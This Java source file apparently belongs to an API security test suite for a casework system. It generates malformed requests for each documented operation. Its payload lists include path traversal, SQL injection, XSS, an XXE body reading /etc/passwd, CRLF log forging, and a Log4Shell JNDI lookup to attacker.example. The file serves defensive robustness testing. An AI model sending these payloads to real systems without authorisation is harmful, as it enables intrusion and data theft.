package org.casework.system;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import com.fasterxml.jackson.databind.JsonNode;

/**
 * Malformed requests for one documented operation. Every request is wrong in at least one thing the
 * operation reads (a path parameter, a documented query parameter, the body or a header it takes), and
 * none can legitimately change anything: path, query and header variants carry an incomplete body;
 * body variants go to ids that do not exist, so a body that happens to be acceptable ends in 404.
 */
final class HostileRequests {

    /** A request as sent: what it tries, and the bytes. */
    record Hostile(ApiOperations.Operation op, String label, String pathAndQuery, String contentType, byte[] body,
            Map<String, String> headers) {
    }

    static final String FORGED = "FORGED-LOG-LINE";
    private static final String LONG = "A".repeat(5_000);

    /** Path segments, URL-encoded as a client would send them. */
    private static final List<String> PATH_VALUES = List.of("not-a-uuid", "00000000-0000-0000-0000-000000000000",
            "..%2F..%2Fetc%2Fpasswd", "%2e%2e", "%27%20OR%20%271%27%3D%271", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", LONG, "-1",
            "99999999999999999999", "%00", "%0d%0a" + FORGED, "%ff%fe", "%25", "1%3B%20DROP%20TABLE%20cases");

    /** Query values, URL-encoded. */
    private static final List<String> QUERY_VALUES = List.of("abc", "-1", "0", "99999999999999999999", "1e400",
            "%27%20OR%201%3D1--", "%3Cscript%3E", "%00", LONG, "%ff", "..%2F..%2F", "%5B%5D", "true", "2024-02-30",
            "%0d%0a" + FORGED, "%E2%80%AE", "NaN", "-0.5");

    /** Whole bodies that are not a request at all. */
    private static final List<byte[]> RAW_BODIES = List.of(bytes(""), bytes("{"), bytes("[]"), bytes("null"), bytes("\"text\""),
            bytes("12345"), bytes("{\"a\":}"), bytes("{\"a\":1,\"a\":2"), bytes("\uFEFF{}"), bytes("{\"x\": NaN}"),
            bytes("[".repeat(5_000) + "]".repeat(5_000)), bytes("{\"x\":" + "{\"x\":".repeat(3_000) + "1" + "}".repeat(3_001)),
            new byte[] { '{', '"', 'x', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}' },
            new byte[] { (byte) 0xFF, (byte) 0xFE, 0, 0 }, bytes("{\"x\":\"" + "B".repeat(2_000_000) + "\"}"),
            bytes("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"));

    /** Values put, one at a time, into each field of a body (JSON text). */
    private static final List<String> FIELD_VALUES = List.of("123", "-1", "\"abc\"", "true", "[]", "{}", "null",
            "\"" + "C".repeat(100_000) + "\"", "\"' OR '1'='1\"", "\"<script>alert(1)</script>\"", "\"../../etc/passwd\"",
            "\"-99999999999999999999999999999.99\"", "1e400", "\"0000-00-00\"", "\"2024-02-30\"", "\"+999999999-12-31\"",
            "\"line\\r\\n" + FORGED + " forged\"", "\"\\u0000\"", "\"\\ud800\"", "99999999999999999999999",
            "\"\\t\"", "\"%s%s%n\"", "\"${jndi:ldap://attacker.example/a}\"", "\"{{7*7}}\"", "0.0000001", "-0",
            "\"\u202e\"", "\"\uD83D\uDE00\"", "\"undefined\"", "[1,2,3]");

    private static final Pattern PARAM = Pattern.compile("\\{[^}]+}");

    private HostileRequests() {
    }

    static List<Hostile> of(ApiOperations.Operation op, String filledPath, String unknownPath) {
        List<Hostile> all = new ArrayList<>();
        String jsonType = op.bodyType() != null && op.bodyType().contains("json") ? op.bodyType() : "application/json";
        byte[] incomplete = ApiCall.emptyBody(op.bodyType());
        String type = ApiCall.contentTypeHeader(op.bodyType());
        // path parameters, one at a time
        List<int[]> params = new ArrayList<>();
        Matcher m = PARAM.matcher(op.path());
        while (m.find()) {
            params.add(new int[] { m.start(), m.end() });
        }
        for (int i = 0; i < params.size(); i++) {
            for (String value : PATH_VALUES) {
                all.add(new Hostile(op, "path " + (i + 1) + " = " + abbreviate(value), withParam(op.path(), filledPath, i, value), type,
                        incomplete, Map.of()));
            }
        }
        // documented query parameters, one at a time
        for (String q : op.queryParams()) {
            for (String value : QUERY_VALUES) {
                all.add(new Hostile(op, "?" + q + "=" + abbreviate(value), filledPath + "?" + q + "=" + value, type, incomplete, Map.of()));
            }
        }
        if (op.hasBody() && op.bodyType().contains("json")) {
            for (byte[] raw : RAW_BODIES) {
                all.add(new Hostile(op, "body " + abbreviate(new String(raw, 0, Math.min(raw.length, 30), StandardCharsets.UTF_8)),
                        unknownPath, jsonType, raw, Map.of()));
            }
            for (String value : FIELD_VALUES) {
                all.add(new Hostile(op, "body " + abbreviate(value), unknownPath, jsonType, bytes(value), Map.of()));
            }
            for (String field : fields(op.bodySchema(), op.document(), "", 0)) {
                for (String value : FIELD_VALUES) {
                    all.add(new Hostile(op, field + " = " + abbreviate(value), unknownPath, jsonType, bytes(nest(field, value)), Map.of()));
                }
            }
            for (String wrongType : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data")) {
                all.add(new Hostile(op, "content type " + wrongType, unknownPath, wrongType, bytes("{}"), Map.of()));
            }
        }
        if (op.hasBody() && op.bodyType().startsWith("multipart/")) {
            all.addAll(multipart(op, filledPath));
        }
        for (String header : op.headerParams()) {
            for (String value : List.of("", " ", "W/\"1\"", "\"-1\"", "\"999999\", W/\"x\"", LONG, "\u00e9t\u00e9", "\"" + FORGED + "\"")) {
                all.add(new Hostile(op, header + ": " + abbreviate(value), filledPath, type, incomplete, Map.of(header, value)));
            }
        }
        return all;
    }

    /** Portal uploads: broken multipart, no statement, hostile file names and contents. */
    private static List<Hostile> multipart(ApiOperations.Operation op, String path) {
        List<Hostile> all = new ArrayList<>();
        String b = ApiCall.BOUNDARY;
        String type = op.bodyType() + "; boundary=" + b;
        all.add(new Hostile(op, "multipart without boundary", path, op.bodyType(), bytes("--x\r\n\r\n"), Map.of()));
        all.add(new Hostile(op, "multipart cut short", path, type, bytes("--" + b + "\r\nContent-Disposition: form-data; name=\"statement\"\r\n\r\nhalf"), Map.of()));
        all.add(new Hostile(op, "multipart empty", path, type, bytes("--" + b + "--\r\n"), Map.of()));
        for (String name : List.of("../../etc/passwd", "..\\\\..\\\\windows\\\\win.ini", "a\u0000.pdf", "%2e%2e%2fx.pdf", "evil.pdf\r\n" + FORGED,
                "<script>.pdf", "C".repeat(5_000) + ".pdf", "x.exe", "")) {
            for (String content : List.of("%PDF-1.7\n%%EOF\n", "MZ\u0090\u0000binary", "")) {
                String body = "--" + b + "\r\nContent-Disposition: form-data; name=\"files\"; filename=\"" + name + "\"\r\n"
                        + "Content-Type: application/pdf\r\n\r\n" + content + "\r\n--" + b + "--\r\n";
                all.add(new Hostile(op, "file " + abbreviate(name) + " / " + abbreviate(content), path, type, bytes(body), Map.of()));
            }
        }
        for (String value : FIELD_VALUES) {
            String body = "--" + b + "\r\nContent-Disposition: form-data; name=\"unexpected\"\r\n\r\n" + value + "\r\n--" + b + "--\r\n";
            all.add(new Hostile(op, "part unexpected = " + abbreviate(value), path, type, bytes(body), Map.of()));
        }
        return all;
    }

    /** Field paths of a schema, nested objects to depth 2 ("organisation.name"). */
    private static List<String> fields(JsonNode schema, JsonNode doc, String prefix, int depth) {
        List<String> out = new ArrayList<>();
        if (schema == null) {
            return out;
        }
        JsonNode s = schema.has("$ref") ? ApiOperations.resolve(doc, schema.get("$ref").asText()) : schema;
        for (Iterator<Map.Entry<String, JsonNode>> it = s.path("properties").fields(); it.hasNext();) {
            var p = it.next();
            String name = prefix + p.getKey();
            out.add(name);
            JsonNode child = p.getValue().has("$ref") ? ApiOperations.resolve(doc, p.getValue().get("$ref").asText()) : p.getValue();
            if (depth < 1 && child.has("properties")) {
                out.addAll(fields(child, doc, name + ".", depth + 1));
            }
        }
        return out;
    }

    /** {"a":{"b":value}} for "a.b": a body with only that field, which no operation accepts as complete. */
    private static String nest(String field, String value) {
        String[] parts = field.split("\\.");
        StringBuilder sb = new StringBuilder();
        for (String p : parts) {
            sb.append("{\"").append(p).append("\":");
        }
        sb.append(value);
        sb.append("}".repeat(parts.length));
        return sb.toString();
    }

    private static String withParam(String template, String filled, int index, String value) {
        // rebuild the filled path with one parameter replaced: split both on '/'
        String[] t = template.split("/");
        String[] f = filled.split("/");
        int seen = -1;
        for (int i = 0; i < t.length; i++) {
            if (t[i].startsWith("{") && ++seen == index) {
                f[i] = value;
            }
        }
        return String.join("/", f);
    }

    private static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static String abbreviate(String s) {
        String clean = s.replaceAll("[\\r\\n\\u0000]", "?");
        return clean.length() > 24 ? clean.substring(0, 24) + "…(" + s.length() + ")" : clean;
    }
}
